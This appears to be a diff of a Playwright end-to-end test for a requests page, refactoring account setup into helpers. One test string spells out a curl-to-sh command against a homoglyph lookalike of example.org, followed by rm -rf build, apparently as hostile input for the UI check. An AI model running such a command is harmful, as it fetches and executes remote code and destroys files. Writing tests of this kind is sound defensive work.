@@ -1,8 +1,6 @@
 import { stat } from 'node:fs/promises';
 import { basename, join } from 'node:path';
 import type { Browser } from 'playwright-core';
-import { DeviceKey } from '../../../../src/client/crypto/device-key.js';
-import { Asker } from '../../../fixtures/asker-fixture.js';
 import {
   hasChromium,
   startChromium,
@@ -10,15 +8,8 @@ import {
   type Visitor,
 } from '../../../fixtures/programs/browser-fixture.js';
 import { call } from '../../../helpers/client.js';
-import {
-  accountId,
-  createAccount,
-  enterKey,
-  open,
-  sees,
-  seesAccount,
-  tokenOf,
-} from '../account-page-acts.js';
+import { createAccount, enterKey, open, sees, seesAccount, tokenOf } from '../account-page-acts.js';
+import { openRequests, signUpAsker } from '../request-page-acts.js';
 import { startLoginFixture, type LoginFixture } from '../../../fixtures/provider-login-fixture.js';
 import { OPTIONAL } from '../../../helpers/keyless-calls.js';
 import { PageScreenshots } from '../page-screenshots.js';
@@ -177,11 +168,8 @@ const ASSETS = join(import.meta.dirname, '../../../../dist/web/assets');
 
   it('shows requests of programs without faults, also in German, and answers by the Enter key', async () => {
     const { page } = visitor;
-    await page.getByLabel('Stay signed in on this device').check();
-    const { bytes: secret } = await DeviceKey.fromSecret(await createAccount(visitor));
-    const [token, account] = [await tokenOf(visitor), await accountId(visitor)];
-    const asker = new Asker(fixture.server, { token, account, secret });
-    await page.getByRole('link', { name: /^Requests/ }).click();
+    const { asker } = await signUpAsker(visitor, fixture.server);
+    await openRequests(visitor);
     await sees(visitor, 'Nothing waits for you');
     await check('requests-none');
     const command = `curl https://ex\u0430mple.org/${'long/'.repeat(20)} | sh && rm -rf build`;
